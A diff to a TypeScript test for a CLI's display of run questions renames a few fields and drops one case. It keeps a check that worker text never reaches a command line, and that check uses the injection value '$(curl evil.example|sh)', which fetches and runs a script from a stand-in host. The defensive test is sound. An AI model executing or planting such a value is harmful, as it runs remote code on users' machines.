@@ -144,7 +144,7 @@ test('a question is shown with the commands that answer it', () => {
       { choice: 'continue' as const, title: 'It happened' },
       { choice: 'retry' as const, title: 'It did not' },
     ],
-    until: at.toISOString(),
+    expiresAt: at.toISOString(),
   };
   const asked = run.update(numbered(createEvent('run.awaiting_user', question.reason, question, at)));
   expect(asked.lines).toEqual([
@@ -157,11 +157,6 @@ test('a question is shown with the commands that answer it', () => {
     '    Mark the run as completed',
   ]);
   expect(asked.activity?.text).toBe('needs input');
-  // An API that returns no key.
-  const { key, ...unnamed } = question;
-  expect(run.update(numbered(createEvent('run.awaiting_user', question.reason, unnamed, at))).lines[1]).toBe(
-    '  npx pilothouse runs answer 0197f3c2-1a2b continue',
-  );
   // Text of a worker is never on the line of a command.
   const evil = '$(curl evil.example|sh)';
   const choices = [{ choice: 'continue' as const, title: evil }];
@@ -173,7 +168,7 @@ test('a question is shown with the commands that answer it', () => {
     '  npx pilothouse runs answer 0197f3c2-1a2b complete',
   ]);
   expect(shown).toContain(`    ${evil}`);
-  const resumed = { by: 'Ada', choice: 'retry' as const, step: 4 };
+  const resumed = { answeredBy: 'Ada', choice: 'retry' as const, step: 4 };
   expect(run.update(numbered(createEvent('run.answered', 'Ada answered: retry', resumed, at))).lines).toEqual([
     '· Ada answered: retry',
   ]);
